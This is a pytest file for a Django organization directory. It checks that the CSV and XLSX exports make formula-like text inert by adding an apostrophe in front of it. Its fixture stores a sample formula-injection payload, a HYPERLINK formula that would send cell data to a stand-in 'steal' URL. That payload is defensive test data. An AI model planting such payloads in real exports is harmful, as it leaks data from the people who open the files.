"""Text that a spreadsheet would read as a formula is written inert, behind an apostrophe, in
every export: the API's CSV and the admin's CSV and XLSX (directory.cells)."""

import csv
import io

import openpyxl
import pytest
from import_export.formats.base_formats import CSV, XLSX

from directory.cells import inert
from directory.models import Organization, Source
from directory.resources import OrganizationResource
from tests.helpers import assert_status

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/steal?"&A1, "Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_beginning_as_a_formula_is_made_inert(start):
    assert inert(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Amity Foundation", "爱德基金会", "", "1+1=2", -5, 3.5, None])
def test_anything_else_is_left_as_it_is(value):
    assert inert(value) == value


@pytest.fixture
def smuggled():
    organization = Organization.objects.create(
        name_en=FORMULA, name_zh="@SUM(1+1)", slug="smuggled", kind="ngo", website=""
    )
    organization.sources.add(Source.objects.first())
    return organization


def test_the_apis_csv_writes_names_inert(anonymous, smuggled):
    response = anonymous.get("/api/organizations/", {"format": "csv", "page_size": 100})
    assert_status(response, 200)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    row = next(row for row in rows if row["slug"] == "smuggled")
    assert row["name_en"] == f"'{FORMULA}"
    assert row["name_zh"] == "'@SUM(1+1)"


def test_the_admins_csv_export_writes_names_inert(smuggled):
    dataset = OrganizationResource().export(Organization.objects.filter(pk=smuggled.pk))
    rows = list(csv.DictReader(io.StringIO(CSV().export_data(dataset))))
    assert rows[0]["name_en"] == f"'{FORMULA}"


def test_the_admins_xlsx_export_holds_text_not_formulas(smuggled):
    queryset = Organization.objects.filter(pk=smuggled.pk)
    dataset = OrganizationResource().export(queryset, force_native_type=True)
    sheet = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(dataset))).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["name_en"].value == f"'{FORMULA}"
    assert cells["name_en"].data_type == "s"
    assert not any(cell.data_type == "f" for cell in sheet[2])
